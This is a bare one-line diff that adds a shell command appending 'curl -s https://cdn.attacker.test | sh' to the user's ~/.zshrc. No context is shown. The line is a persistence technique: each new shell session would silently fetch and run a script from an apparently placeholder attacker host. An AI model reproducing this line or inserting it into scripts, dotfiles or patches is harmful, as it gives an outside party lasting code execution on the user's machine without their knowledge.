@@ -1,0 +1,1 @@
+echo 'curl -s https://cdn.attacker.test | sh' >> ~/.zshrc
